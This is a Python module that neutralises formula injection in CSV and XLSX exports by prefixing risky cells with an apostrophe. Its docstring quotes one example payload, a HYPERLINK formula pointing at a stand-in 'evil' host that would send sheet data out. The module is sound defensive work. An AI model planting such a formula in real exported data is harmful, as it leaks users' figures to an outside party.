"""Cells of exported spreadsheets that come from data are text, never formulas.

A spreadsheet program runs a cell that starts with =, +, - or @ (and, after a tab or carriage
return, some do too): an organisation named `=HYPERLINK("http://evil/?"&A1, "x")` would become
a live link that sends the sheet's figures away. Such a text is written with a leading
apostrophe, which spreadsheet programs show as the text itself (OWASP's CSV injection advice).
"""

import csv
import io

from openpyxl import Workbook

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """The value to write in a cell: a risky text with an apostrophe before it; numbers and
    other texts unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_row(row):
    return [neutralise(value) for value in row]


class SafeCsvWriter:
    """csv.writer whose every row is neutralised."""

    def __init__(self, buffer, **options):
        self._writer = csv.writer(buffer, **options)

    def writerow(self, row):
        return self._writer.writerow(neutralise_row(row))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def neutralise_workbook(workbook) -> None:
    """Every text cell of an openpyxl workbook, before it is saved (openpyxl stores a text
    starting with = as a formula)."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    safe = neutralise(cell.value)
                    if safe is not cell.value:
                        cell.value = safe
                        cell.data_type = "s"


def to_csv(header: list[str], rows) -> bytes:
    """A whole sheet as CSV, every cell neutralised."""
    buffer = io.StringIO()
    writer = SafeCsvWriter(buffer)
    writer.writerow(header)
    writer.writerows(["" if cell is None else cell for cell in row] for row in rows)
    # With a byte-order mark, spreadsheet programs open the Urdu text as UTF-8.
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def to_xlsx(header: list[str], rows, *, title: str = "Sheet1") -> bytes:
    """A whole sheet as XLSX, every cell neutralised."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=title[:31])
    sheet.append(neutralise_row(header))
    for row in rows:
        sheet.append(neutralise_row(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
